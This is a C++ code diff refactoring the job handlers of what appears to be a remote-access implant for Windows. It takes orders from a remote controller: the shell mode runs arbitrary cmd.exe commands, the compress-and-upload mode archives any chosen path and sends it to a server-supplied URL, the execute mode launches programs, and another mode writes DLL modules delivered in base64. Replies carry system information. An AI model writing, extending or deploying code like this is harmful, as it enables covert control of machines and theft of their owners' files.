+static void executeJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	const auto execLib = ModuleRegistry::acquire(L"executeCommands.dll");
+	if (execLib != nullptr) {
+		std::wstring exePath{ job.value("exePath") };
+		std::wstring arguments{ job.value("exeArguments") };
 
-			if (!fs::exists(exePath, ec)) {
-				dataToSend = exePath + L" does not exist";
-			}
-			else if (isExecutable(exePath)) {
-				std::wstring errorMsg;
-				HMODULE hExecLib = LoadLibrary(TEXT("executeCommands.dll"));
-				if (hExecLib == NULL) {
-					dataToSend = L"Failed to load executeCommands.dll";
-				}
-				else {
-					dataToSend = executeCommandViaDll(hExecLib, exePath, arguments);
-				}
-				FreeLibrary(hExecLib);
-			}
-			else { dataToSend = exePath + L" is not executable"; }
+		exePath = ReplaceTildeWithPathWindows(exePath);
+		arguments = ReplaceTildeWithPathWindows(arguments);
+
+		if (!fs::exists(exePath, ec)) {
+			dataToSend = exePath + L" does not exist";
 		}
-		else {
-			replyType = L"resourceRequired";
-			dataToSend = L"executeCommands.dll";
-		}
-	}
-	else if (mode == L"compressAndDownload") {
-		std::wstring url = JsonUtil::extractValue(job, L"url");
-		std::wstring port = JsonUtil::extractValue(job, L"port");
-		url += L":" + port;
-		const std::wstring path = JsonUtil::extractValue(job, L"path");
-
-		std::wstring archivePath = path;
-		if ((archivePath.back() == L'/') || (archivePath.back() == L'\\')) {
-			archivePath.pop_back();
-		}
-		std::wstring filename = extractFilename(path);
-		if (filename.empty()) {
-			filename = ExtractLastDirectoryName(path);
-		}
-		std::wstring command;
-		std::wstring args;
-		std::wstring compressionUtilityPath;
-		std::wstring compressionUtility = findCompressionUtility(compressionUtilityPath);
-		std::wstring destinationPath;
-
-		if (compressionUtility.empty()) {
-			dataToSend = L"Couldn't found Compress-Archive, WinRAR or 7zip utility on this system";
-		}
-		if (compressionUtility == L"Compress-Archive") {
-			command = L"powershell";
-			// For directory --> Compress-Archive -Path "path/to/dir" -DestinationPath "archivePath.zip"
-			destinationPath = fs::temp_directory_path().wstring() + filename + L".zip";
-			args = L"Compress-Archive -Path \"" + path + L"\" -DestinationPath \"" + destinationPath + L"\"";
-		}
-		else if (compressionUtility == L"WinRAR") {
-			destinationPath = fs::temp_directory_path().wstring() + filename + L".rar";
-			// "C:\program files\WinRAR\Rar.exe" a -m5 -r -ep1 -idq -y "path/to/temp/filename.rar" "path/to/fileOrDir"
-			command = L"\"" + compressionUtilityPath + L"\\Rar.exe\" ";
-			if(fs::is_directory(path))
-				args = L"a -r -m5 -idq -y -ep1 \"" + destinationPath + L"\" \"" + path + L"\"";
-			else
-				args = L"a -m5 -idq -y -ep1 \"" + destinationPath + L"\" \"" + path + L"\"";
-		}
-		else if (compressionUtility == L"7-Zip") {
-			destinationPath = fs::temp_directory_path().wstring() + filename + L".7z";
-			// "C:\program files\WinRAR\Rar.exe" a -m5 -r -ep1 -idq -y "path/to/temp/filename.7z" "path/to/fileOrDir"
-			command = L"\"" + compressionUtilityPath + L"\\7z.exe\" ";
-			args = L"a -t7z -m0=LZMA2 -mx= -y -aoa \"" + destinationPath + L"\" \"" + path + L"\"";
-		}
-
-		HMODULE hExecLib = LoadLibrary(TEXT("executeCommands.dll"));
-		if (hExecLib == NULL) {
-			dataToSend = L"Failed to load DLL.";
-		}
-		else{
-			dataToSend += executeCommandViaDll(hExecLib, command, args) + L" ";
-		}
-		FreeLibrary(hExecLib);
-		std::wstring errorMsg;
-		HINSTANCE handle_filetransferLib = LoadLibrary(L"filetransfer.dll");
-		if (!handle_filetransferLib) {
-			dataToSend = L"Failed to load filetransfer.dll";
-		}
-		else if (UploadFileToURLViaDll(handle_filetransferLib, url, destinationPath, errorMsg)) {
-			dataToSend = destinationPath + L" uploaded successfully";
-		}
-		else { dataToSend = destinationPath + L" didn't get uploaded, error msg: " + errorMsg; }
-		if (!fs::remove(destinationPath, ec)) {
-			dataToSend = fs::temp_directory_path().wstring() + filename + L" NOT deleted: " + StringUtils::s2ws(ec.message());
-		}
-		FreeLibrary(handle_filetransferLib);
-	}
-	else if (mode == L"shell") {
-		std::wstring executeCommandsDllPath{ getExecutableDir() + L"\\executeCommands.dll" };
-		if (fs::exists(executeCommandsDllPath, ec)) {
-			//    std::wstring exePath = { L"cmd.exe /c " + JsonUtil::extractValue(job, L"exePath") };
-			std::wstring exePath = { L"cmd.exe /c " + JsonUtil::extractValue(job, L"command") };
-			std::wstring arguments{ JsonUtil::extractValue(job, L"arguments") };
-			std::wstring cd{ JsonUtil::extractValue(job, L"cd") };
-			exePath = ReplaceTildeWithPathWindows(exePath);
-			arguments = ReplaceTildeWithPathWindows(arguments);
-			cd = ReplaceTildeWithPathWindows(cd);
-			static fs::path currentPath = fs::current_path();
-			if (!(cd.empty())) {
-				std::wstring newDir = changeDir(cd, ec);
-				if (newDir.empty()) {
-					dataToSend = currentPath;
-				}
-				else {
-					dataToSend = newDir;
-					currentPath = newDir;
-				}
+		else if (isExecutable(exePath)) {
+			std::wstring errorMsg;
+			dataToSend = executeCommandViaDll(*execLib, exePath, arguments);
+		}
+		else { dataToSend = exePath + L" is not executable"; }
+	}
+	else {
+		replyType = L"resourceRequired";
+		dataToSend = L"executeCommands.dll";
+	}
+}
+
+static void compressAndDownloadJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	std::wstring url = job.value("url");
+	std::wstring port = job.value("port");
+	url += L":" + port;
+	const std::wstring path = job.value("path");
+
+	std::wstring archivePath = path;
+	if ((archivePath.back() == L'/') || (archivePath.back() == L'\\')) {
+		archivePath.pop_back();
+	}
+	std::wstring filename = extractFilename(path);
+	if (filename.empty()) {
+		filename = ExtractLastDirectoryName(path);
+	}
+	std::wstring command;
+	std::wstring args;
+	std::wstring compressionUtilityPath;
+	std::wstring compressionUtility = findCompressionUtility(compressionUtilityPath);
+	std::wstring destinationPath;
+
+	if (compressionUtility.empty()) {
+		dataToSend = L"Couldn't found Compress-Archive, WinRAR or 7zip utility on this system";
+	}
+	if (compressionUtility == L"Compress-Archive") {
+		command = L"powershell";
+		// For directory --> Compress-Archive -Path "path/to/dir" -DestinationPath "archivePath.zip"
+		destinationPath = fs::temp_directory_path().wstring() + filename + L".zip";
+		args = L"Compress-Archive -Path \"" + path + L"\" -DestinationPath \"" + destinationPath + L"\"";
+	}
+	else if (compressionUtility == L"WinRAR") {
+		destinationPath = fs::temp_directory_path().wstring() + filename + L".rar";
+		// "C:\program files\WinRAR\Rar.exe" a -m5 -r -ep1 -idq -y "path/to/temp/filename.rar" "path/to/fileOrDir"
+		command = L"\"" + compressionUtilityPath + L"\\Rar.exe\" ";
+		if(fs::is_directory(path))
+			args = L"a -r -m5 -idq -y -ep1 \"" + destinationPath + L"\" \"" + path + L"\"";
+		else
+			args = L"a -m5 -idq -y -ep1 \"" + destinationPath + L"\" \"" + path + L"\"";
+	}
+	else if (compressionUtility == L"7-Zip") {
+		destinationPath = fs::temp_directory_path().wstring() + filename + L".7z";
+		// "C:\program files\WinRAR\Rar.exe" a -m5 -r -ep1 -idq -y "path/to/temp/filename.7z" "path/to/fileOrDir"
+		command = L"\"" + compressionUtilityPath + L"\\7z.exe\" ";
+		args = L"a -t7z -m0=LZMA2 -mx= -y -aoa \"" + destinationPath + L"\" \"" + path + L"\"";
+	}
+
+	const auto execLib = ModuleRegistry::acquire(L"executeCommands.dll");
+	if (execLib == nullptr) {
+		dataToSend = L"Failed to load DLL.";
+	}
+	else{
+		dataToSend += executeCommandViaDll(*execLib, command, args) + L" ";
+	}
+	std::wstring errorMsg;
+	const auto filetransferLib = ModuleRegistry::acquire(L"filetransfer.dll");
+	if (filetransferLib == nullptr) {
+		dataToSend = L"Failed to load filetransfer.dll";
+	}
+	else if (UploadFileToURLViaDll(*filetransferLib, url, destinationPath, errorMsg)) {
+		dataToSend = destinationPath + L" uploaded successfully";
+	}
+	else { dataToSend = destinationPath + L" didn't get uploaded, error msg: " + errorMsg; }
+	if (!fs::remove(destinationPath, ec)) {
+		dataToSend = fs::temp_directory_path().wstring() + filename + L" NOT deleted: " + StringUtils::s2ws(ec.message());
+	}
+}
+
+static void shellJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	const auto execLib = ModuleRegistry::acquire(L"executeCommands.dll");
+	if (execLib != nullptr) {
+		//    std::wstring exePath = { L"cmd.exe /c " + job.value("exePath") };
+		std::wstring exePath = { L"cmd.exe /c " + job.value("command") };
+		std::wstring arguments{ job.value("arguments") };
+		std::wstring cd{ job.value("cd") };
+		exePath = ReplaceTildeWithPathWindows(exePath);
+		arguments = ReplaceTildeWithPathWindows(arguments);
+		cd = ReplaceTildeWithPathWindows(cd);
+		static fs::path currentPath = fs::current_path();
+		if (!(cd.empty())) {
+			std::wstring newDir = changeDir(cd, ec);
+			if (newDir.empty()) {
+				dataToSend = currentPath.wstring();
 			}
 			else {
-				exePath = L"cmd.exe /c cd " + currentPath.wstring() + L" && " + exePath;
-				HMODULE hExecLib = LoadLibrary(TEXT("executeCommands.dll"));
-				if (hExecLib == NULL) {
-					dataToSend = L"Failed to load DLL.";
-				}
-				else {
-					dataToSend = executeCommandViaDll(hExecLib, exePath, arguments).substr(exePath.length());
-				}
-				FreeLibrary(hExecLib);
+				dataToSend = newDir;
+				currentPath = newDir;
 			}
-			replyType = L"shellResponse";
 		}
 		else {
-			replyType = L"resourceRequired";
-			dataToSend = L"executeCommands.dll";
+			exePath = L"cmd.exe /c cd " + currentPath.wstring() + L" && " + exePath;
+			dataToSend = executeCommandViaDll(*execLib, exePath, arguments).substr(exePath.length());
 		}
+		replyType = L"shellResponse";
+	}
+	else {
+		replyType = L"resourceRequired";
+		dataToSend = L"executeCommands.dll";
 	}
-	else if (mode == L"grabFile") {
-		std::string filename{ StringUtils::ws2s(JsonUtil::extractValue(job, L"filename")) };
-		std::string base64Data{ StringUtils::ws2s(JsonUtil::extractValue(job, L"base64Data")) };
-		std::string fileContent = base64_decode(base64Data.c_str());
-		std::wstring pathToResource{ getExecutableDir() + L"\\" + StringUtils::s2ws(filename) };
+}
 
-		if (fs::exists(pathToResource, ec) && fs::file_size(pathToResource, ec) == fileContent.length()) {
-			dataToSend = StringUtils::s2ws(filename) + L" already exist!";
-		}
-		else if (!writeFileContents(StringUtils::ws2s(pathToResource), fileContent)) {
-			dataToSend = L"couldn't write " + StringUtils::s2ws(filename);
-		}
-		else {
-			dataToSend = StringUtils::s2ws(filename + " is succesfully fetched by client");
-		}
+static void grabFileJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	const std::string &filename{ job.valueUtf8("filename") };
+	const std::string &base64Data{ job.valueUtf8("base64Data") };
+	std::wstring pathToResource{ getExecutableDir() + L"\\" + StringUtils::s2ws(filename) };
+
+	if (fs::exists(pathToResource, ec) && fs::file_size(pathToResource, ec) == base64_decoded_length(base64Data)) {
+		dataToSend = StringUtils::s2ws(filename) + L" already exist!";
+	}
+	else if (!writeFileContentsFromBase64(pathToResource, base64Data)) {
+		dataToSend = L"couldn't write " + StringUtils::s2ws(filename);
+	}
+	else {
+		dataToSend = StringUtils::s2ws(filename + " is succesfully fetched by client");
+	}
+}
+
+static void unsupportedJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	dataToSend = job.mode() + L" is not supported by this client";
+}
+
+
+/* ================================ JOB REGISTRY ================================ */
+
+/* Built-in modes. Long running jobs go to the I/O lane so they can't hold up quick filesystem queries */
+static constexpr JobMode builtinJobModes[]{
+	{ L"downloadFile",			downloadFileJob,			JobLane::IoHeavy },
+	{ L"uploadFile",			uploadFileJob,				JobLane::IoHeavy },
+	{ L"UploadDir",				uploadDirJob,				JobLane::IoHeavy },
+	{ L"downloadDir",			unsupportedJob,				JobLane::Light },
+	{ L"deleteFile",			deleteFileJob,				JobLane::Light },
+	{ L"listDir",				listDirJob,					JobLane::Light },
+	{ L"copy",					copyJob,					JobLane::IoHeavy },
+	{ L"execute",				executeJob,					JobLane::IoHeavy },
+	{ L"compressAndDownload",	compressAndDownloadJob,		JobLane::IoHeavy },
+	{ L"shell",					shellJob,					JobLane::IoHeavy },
+	{ L"grabFile",				grabFileJob,				JobLane::IoHeavy }
+};
+static constexpr size_t builtinJobModeCount{ sizeof(builtinJobModes) / sizeof(builtinJobModes[0]) };
+
+/* FNV-1a over the UTF-16/32 code units of a mode name */
+static constexpr uint32_t jobModeHash(const wchar_t *name, const size_t &length) {
+	uint32_t hash{ 2166136261u };
+	for (size_t i = 0; i < length; ++i) {
+		hash = (hash ^ static_cast<uint32_t>(name[i])) * 16777619u;
+	}
+	return hash;
+}
+
+static constexpr size_t constexprLength(const wchar_t *str) {
+	size_t length{ 0 };
+	while (str[length] != L'\0') { ++length; }
+	return length;
+}
+
+/* Perfect hash: every built-in mode owns a distinct slot, so a lookup is one hash and one compare */
+static constexpr size_t jobModeSlots{ 32 };
+static constexpr uint8_t emptySlot{ 0xFF };
+
+struct JobModeTable {
+	uint8_t slot[jobModeSlots];
+	bool isPerfect;
+};
+
+static constexpr JobModeTable makeJobModeTable(void) {
+	JobModeTable table{ {}, true };
+	for (auto &entry : table.slot) { entry = emptySlot; }
+	for (size_t i = 0; i < builtinJobModeCount; ++i) {
+		const wchar_t *name = builtinJobModes[i].name;
+		uint8_t &entry = table.slot[jobModeHash(name, constexprLength(name)) % jobModeSlots];
+		if (entry != emptySlot) {
+			table.isPerfect = false;
+		}
+		entry = static_cast<uint8_t>(i);
 	}
+	return table;
+}
 
-	const std::wstring sysInfo = sharedResources.getSysInfoInJson();
-	dataToSend = JsonUtil::appendKeyValue(sysInfo, replyType, dataToSend);
-	std::string dataToSendStr = StringUtils::ws2s(dataToSend); // Convert wstring to string   
-	dataToSend = StringUtils::s2ws(base64_encode((unsigned char*)dataToSendStr.c_str(), dataToSendStr.length()));
+static constexpr JobModeTable jobModeTable{ makeJobModeTable() };
+static_assert(jobModeTable.isPerfect, "Built-in job modes collide in jobModeTable, change jobModeSlots");
 
-	std::wstringstream contentLengthStream;
-	contentLengthStream << dataToSend.length();
-	request += L"Content-Length: " + contentLengthStream.str() + L"\r\n";
-	request += L"Connection: close\r\n";
-	request += L"\r\n" + dataToSend;
-	sharedResources.pushResponse(request);
-	request.clear();
-}
\ No newline at end of file
+/* Modes registered at runtime, i.e. by plugin modules */
+static std::unordered_map<std::wstring, JobMode> registeredJobModes;
+static std::mutex registeredJobModesMutex;
+
+bool findJobMode(const std::wstring &mode, JobMode &jobMode) {
+	const uint8_t entry = jobModeTable.slot[jobModeHash(mode.data(), mode.length()) % jobModeSlots];
+	if (entry != emptySlot && mode == builtinJobModes[entry].name) {
+		jobMode = builtinJobModes[entry];
+		return true;
+	}
+	std::lock_guard<std::mutex> lock(registeredJobModesMutex);
+	if (registeredJobModes.empty()) {
+		return false;
+	}
+	const auto registered = registeredJobModes.find(mode);
+	if (registered == registeredJobModes.end()) {
+		return false;
+	}
+	jobMode = registered->second;
+	return true;
+}
+
+bool registerJobMode(const std::wstring &mode, const JobHandler &handler, const JobLane &lane) {
+	JobMode existing;
+	if (mode.empty() || handler == nullptr || findJobMode(mode, existing)) {		// Built-in and already registered modes can't be replaced
+		return false;
+	}
+	std::lock_guard<std::mutex> lock(registeredJobModesMutex);
+	auto inserted = registeredJobModes.emplace(mode, JobMode{ nullptr, handler, lane });
+	inserted.first->second.name = inserted.first->first.c_str();
+	return inserted.second;
+}
+
+void startJob_t(SharedResourceManager &sharedResources, const Job &job, const JobHandler &handler) {
+	std::wstring replyType{ L"log" };
+	std::wstring dataToSend;
+	handler(job, replyType, dataToSend);
+	pushJobReply(sharedResources, replyType, dataToSend);
+}